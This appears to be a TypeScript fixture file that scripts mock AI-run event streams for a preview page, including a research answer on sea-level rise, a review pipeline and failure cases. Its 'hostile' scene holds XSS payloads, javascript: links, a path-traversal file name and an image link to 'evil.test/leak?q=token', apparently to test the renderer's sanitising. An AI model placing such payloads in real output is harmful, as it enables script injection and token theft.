// Hand-written runs for the preview page.
import type { EventType, ExecutionEvent } from "../src/core/events";

/** Builds the events of one run, stamped as the executor would. */
export class Script {
  readonly events: ExecutionEvent[] = [];
  private now = 1_790_000_000;
  constructor(
    graph: string,
    private readonly id = "run_7f3a2c",
  ) {
    this.add("execution_start", "START", { metadata: { graph_id: graph } });
  }
  add(type: EventType, node: string, rest: Partial<ExecutionEvent> = {}, seconds = 0.02): this {
    this.now += seconds;
    this.events.push({
      seq: this.events.length,
      type,
      node_id: node,
      metadata: {},
      timestamp: this.now,
      run_id: this.id,
      ...rest,
    });
    return this;
  }
  words(type: EventType, node: string, text: string, metadata: Record<string, unknown> = {}): this {
    for (const piece of text.match(/[\s\S]{1,5}/gu) ?? []) this.add(type, node, { content: piece, metadata });
    return this;
  }
  think(node: string, text: string, kind = "full", seconds = 4): this {
    this.add("reasoning_start", node, { metadata: { block_id: "r", kind } });
    this.words("reasoning_token", node, text, { block_id: "r", kind });
    return this.add("reasoning_end", node, { metadata: { block_id: "r", kind } }, seconds);
  }
  say(node: string, text: string): this {
    return this.add("message_start", node).words("token", node, text).add("message_complete", node);
  }
  call(node: string, model: string): this {
    return this.add("model_call_start", node, { metadata: { provider: "openai", requested_model: model } });
  }
  response(node: string, model: string, prompt: number, completion: number, cost?: number, extra: object = {}): this {
    return this.add("response_metadata", node, {
      metadata: {
        model_id: model,
        provider: "openai",
        usage: { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion, ...extra },
        usage_status: "reported",
        ...(cost === undefined ? {} : { cost_usd: cost }),
        time_to_first_token_ms: 412,
        duration_ms: 5230,
        finish_reason: "stop",
      },
    });
  }
  tool(node: string, id: string, name: string, args: unknown, output: unknown, ms = 640, error?: string): this {
    const metadata = { tool_call_id: id, tool_name: name, executed_by: "client" };
    this.add("tool_call_start", node, { metadata });
    this.words("tool_call_delta", node, JSON.stringify(args), metadata);
    return this.add("tool_call_complete", node, {
      output,
      ...(error === undefined ? {} : { error }),
      metadata: { ...metadata, arguments: args, status: error === undefined ? "ok" : "error", duration_ms: ms },
    });
  }
  end(ms = 9_240): this {
    return this.add("execution_complete", "START", { metadata: { status: "completed", duration_ms: ms } });
  }
}

const ANSWER = `Sea level has risen **21–24 cm** since 1880, and about a third of that in the last 25 years.

## What drives it

1. **Thermal expansion** of the oceans, the larger part until about 2005
2. **Land ice**: glaciers, Greenland and Antarctica
   - Greenland loses some 270 Gt a year
   - Antarctica about 150 Gt a year
3. Smaller terms, such as groundwater

| Period | Rate (mm/yr) | Source of the record |
|:--|--:|:--|
| 1901–1990 | 1.4 | tide gauges |
| 1993–2012 | 3.1 | altimetry |
| 2013–2024 | **4.4** | altimetry |

> The rate has more than doubled since satellites began to measure it.

A fit to the record takes three lines:

\`\`\`python
import numpy as np

def trend(years: np.ndarray, level_mm: np.ndarray) -> float:
    """Least-squares rate in mm per year."""
    slope, _ = np.polyfit(years - years.mean(), level_mm, 1)
    return float(slope)  # 3.4 for 1993-2024
\`\`\`

- [x] tide gauges checked
- [ ] regional differences, see [the atlas](https://example.org/atlas)

Set \`deg=2\` to let the rate change with time.
`;

const png = (): string => {
  const canvas = document.createElement("canvas");
  canvas.width = 760;
  canvas.height = 300;
  const c = canvas.getContext("2d")!;
  c.fillStyle = "#fff";
  c.fillRect(0, 0, 760, 300);
  c.strokeStyle = "#1976d2";
  c.lineWidth = 3;
  c.beginPath();
  for (let x = 0; x < 700; x += 4) c.lineTo(40 + x, 260 - 200 * (x / 700) ** 1.6 - 8 * Math.sin(x / 9));
  c.stroke();
  c.strokeStyle = "#ccc";
  c.lineWidth = 1;
  c.strokeRect(40, 20, 700, 250);
  return canvas.toDataURL("image/png").split(",")[1]!;
};

function research(): ExecutionEvent[] {
  const s = new Script("sea_level");
  s.add("node_start", "llm").call("llm", "gpt-5");
  s.think(
    "llm",
    "The question is about the **rate** of sea level rise and its causes. I should look for the altimetry record first, then split the contributions.\n\nTide gauges go back to 1880; satellites to 1993. Acceleration is the interesting part.",
  );
  const rows = [
    { year: 1993, level_mm: 0, source: "TOPEX" },
    { year: 2003, level_mm: 31.5, source: "Jason-1" },
    { year: 2013, level_mm: 63.9, source: "Jason-2" },
    { year: 2024, level_mm: 111.2, source: "Sentinel-6" },
  ];
  s.tool("llm", "c1", "search", { query: "global mean sea level altimetry 1993-2024", limit: 5 }, { hits: 5, took: "0.4 s" });
  s.tool("llm", "c2", "load_table", { dataset: "gmsl", columns: ["year", "level_mm"] }, rows, 1830);
  s.tool("llm", "c3", "fetch", { url: "https://example.org/missing" }, null, 120, "HTTP 404: the page does not exist");
  s.response("llm", "gpt-5-2025-08-07", 1840, 212, 0.0044, { reasoning_tokens: 96 });
  s.call("llm", "gpt-5").add("message_start", "llm").words("token", "llm", ANSWER);
  const at = (text: string) => [...ANSWER.slice(0, ANSWER.indexOf(text) + text.length)].length;
  s.add("source", "llm", {
    metadata: {
      sources: [
        { url: "https://www.climate.gov/sea-level", title: "Climate Change: Global Sea Level", cited_text: "Global mean sea level has risen about 8–9 inches (21–24 centimeters) since 1880.", start: 0, end: at("25 years."), offset_unit: "code_point" },
        { url: "https://sealevel.nasa.gov/", title: "NASA Sea Level Change", cited_text: "The rate of rise has more than doubled over the satellite record.", start: 2, end: at("measure it."), offset_unit: "code_point" },
        { url: "https://www.climate.gov/sea-level", title: "Climate Change: Global Sea Level", start: 2, end: at("270 Gt a year"), offset_unit: "code_point" },
        { url: "https://example.org/ipcc/ar6", title: "IPCC AR6, Chapter 9: Ocean, Cryosphere and Sea Level Change", start: 2, end: at("**4.4**"), offset_unit: "code_point" },
        { url: "https://example.org/gravity", title: "GRACE-FO mass change", kind: "result" },
        { url: "https://example.org/tides", title: "Permanent Service for Mean Sea Level", kind: "result" },
      ],
    },
  });
  s.add("message_complete", "llm");
  s.add("file", "llm", { metadata: { name: "gmsl.png", mime_type: "image/png", content: png() } });
  s.add("file", "llm", { metadata: { name: "gmsl_1993_2024.csv", mime_type: "text/csv", content: btoa("year,level\n1993,0\n".repeat(700)) } });
  s.response("llm", "gpt-5-2025-08-07", 3120, 486, 0.0088, { cached_tokens: 1536 });
  return s.add("node_complete", "llm").end().events;
}

function graph(): ExecutionEvent[] {
  const s = new Script("review_pipeline");
  s.add("node_start", "load").add("custom_data", "load", { content: { value: 62, total: 180, label: "Reading papers" }, metadata: { data_type: "data-progress" } });
  s.add("node_complete", "load", {}, 0.4);
  s.add("node_start", "optimist").add("node_start", "sceptic");
  s.call("optimist", "gpt-5-mini").call("sceptic", "claude-sonnet-4-5");
  s.add("reasoning_start", "sceptic", { metadata: { block_id: "r", kind: "summary" } });
  s.words("reasoning_token", "sceptic", "**Weighing the evidence**\n\nThe sample is small and the controls were not blinded.", { block_id: "r", kind: "summary" });
  s.words("token", "optimist", "The method is *sound* and the effect is large: `d = 0.8`. The authors share data and code, which ");
  s.add("custom_data", "load", { content: { value: 180, total: 180, label: "Reading papers" }, metadata: { data_type: "data-progress" } });
  s.add("reasoning_end", "sceptic", { metadata: { block_id: "r", kind: "summary" } }, 3.2);
  s.words("token", "sceptic", "Eleven subjects carry the main claim, and ");
  s.words("token", "optimist", "makes it easy to check.");
  s.tool("sceptic", "t1", "run_power_analysis", { n: 11, d: 0.8, alpha: 0.05 }, { power: 0.41 }, 240);
  s.words("token", "sceptic", "the power of the test is 0.41.");
  s.response("optimist", "gpt-5-mini", 820, 64, 0.0003).response("sceptic", "claude-sonnet-4-5", 840, 122, undefined);
  s.add("node_complete", "optimist").add("node_complete", "sceptic");
  s.add("node_start", "judge").call("judge", "gpt-5");
  s.add("custom_data", "judge", { content: { rubric: ["novelty", "rigour"], weights: [0.4, 0.6] }, metadata: { data_type: "data-rubric" } });
  s.say("judge", "**Major revision.** Both reviews agree on the value of the data; the sample has to grow before the claim stands.");
  s.response("judge", "gpt-5", 410, 40, 0.0011);
  return s.add("node_complete", "judge").end(12_400).events;
}

function failed(): ExecutionEvent[] {
  const s = new Script("chat");
  s.add("node_start", "llm").call("llm", "gpt-5").add("message_start", "llm").words("token", "llm", "A first try that the connection cut ");
  s.add("node_retry", "llm", { error: "openai/gpt-5 (HTTP 503): the server is overloaded.", metadata: { attempt: 1 } });
  s.call("llm", "gpt-5");
  s.think("llm", "Again from the top: list the planets by mass, and keep it short.", "full", 2);
  s.words("token", "llm", "The planets by mass, heaviest first:\n\n1. Jupiter\n2. Saturn\n3. Nep", { attempt: 1 });
  s.add("node_error", "llm", {
    error: "openai/gpt-5 (HTTP 200): The answer stopped before its end: the connection dropped after 96 tokens. Run the cell again; what had arrived is in run.text. [request req_8c1f]",
  });
  return s.add("execution_error", "START", { error: "Node 'llm' failed", metadata: { status: "failed", duration_ms: 3100 } }).events;
}

function cancelled(): ExecutionEvent[] {
  const s = new Script("chat");
  s.add("node_start", "llm").call("llm", "gpt-5").words("token", "llm", "Once upon a time there was a very long story, which someone ");
  return s.add("execution_error", "START", { error: "cancelled", metadata: { status: "cancelled", duration_ms: 2100 } }).events;
}

function hostile(): ExecutionEvent[] {
  const s = new Script("hostile");
  s.add("node_start", "llm").call("llm", "evil-1");
  s.say(
    "llm",
    '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<svg onload=alert(1)></svg>\n\n[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [fine](https://example.org)\n\n![secret](https://evil.test/leak?q=token)\n\n![svg](data:image/svg+xml;base64,PHN2Zy8+)\n\nline\u2028separator and \ue0001\ue001 forged mark\n\n' + "x".repeat(300_000) + "\n\n" + ">".repeat(3000) + " deep\n\nend",
  );
  s.tool("llm", "t", "<b>tool</b>", { q: "<img src=x onerror=alert(1)>" }, "<script>alert(2)</script>");
  s.add("file", "llm", { metadata: { name: "../../evil.svg", mime_type: "image/svg+xml", content: btoa("<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>") } });
  s.add("source", "llm", { metadata: { sources: [{ url: "javascript:alert(1)", title: "<script>x</script>" }] } });
  s.response("llm", "evil-1", 1, 1);
  return s.add("node_complete", "llm").end().events;
}

function long(tokens: number): ExecutionEvent[] {
  const s = new Script("long");
  s.add("node_start", "llm").call("llm", "gpt-5").add("message_start", "llm");
  const text = ANSWER.repeat(Math.ceil((tokens * 7) / ANSWER.length));
  for (let i = 0; i < tokens; i++) s.add("token", "llm", { content: text.slice(i * 7, i * 7 + 7) });
  return s.add("message_complete", "llm").response("llm", "gpt-5", 10, tokens, 0).add("node_complete", "llm").end().events;
}

/** Many visits, four at a time, with waits and new beginnings; one node has a graph inside. */
function many(visits = 2000): ExecutionEvent[] {
  const s = new Script("crawl");
  const inside = { nodes: [{ id: "fetch", kind: "tool" }, { id: "read", kind: "llm" }], edges: [{ source: "fetch", target: "read" }, { source: "read", target: "fetch", kind: "loop", label: "max: 500" }] };
  s.events[0]!.metadata = { graph_id: "crawl", graph: { nodes: [{ id: "plan", kind: "llm" }, { id: "crawl", kind: "subgraph", graph: inside }, { id: "sum", kind: "llm" }], edges: [{ source: "plan", target: "crawl" }, { source: "crawl", target: "sum" }] } };
  s.add("node_start", "plan").say("plan", "Read the pages.").add("node_complete", "plan");
  s.add("node_start", "crawl");
  const open: [string, number][] = [];
  for (let n = 0; n < visits; n++) {
    const id = n % 3 ? "crawl.read" : "crawl.fetch";
    const visit = n % 3 ? Math.floor(n / 3) * 2 + (n % 3) - 1 : n / 3;
    s.add("node_start", id, { metadata: visit ? { visit } : {} }, 0.05);
    if (n % 17 === 0) s.add("custom_data", id, { content: { delay_s: 0.2, reason: "HTTP 429" }, metadata: { data_type: "data-retry", ...(visit ? { visit } : {}) } });
    if (n % 3) s.add("token", id, { content: `Page ${n}. `, metadata: visit ? { visit } : {} }, 0.08);
    open.push([id, visit]);
    if (open.length > 3) {
      const [done, at] = open.shift()!;
      s.add(n % 211 === 0 ? "node_error" : "node_complete", done, { metadata: at ? { visit: at } : {}, ...(n % 211 === 0 ? { error: "HTTP 500" } : {}) });
    }
  }
  for (const [done, at] of open) s.add("node_complete", done, { metadata: at ? { visit: at } : {} });
  s.add("node_complete", "crawl").add("node_start", "sum").say("sum", "All of it was read.").add("node_complete", "sum");
  return s.end().events;
}

export const SCENES: Record<string, () => ExecutionEvent[]> = {
  research,
  graph,
  many: () => many(),
  failed,
  cancelled,
  hostile,
  long: () => long(10_000),
  longer: () => long(100_000),
  half: () => long(40_000),
};
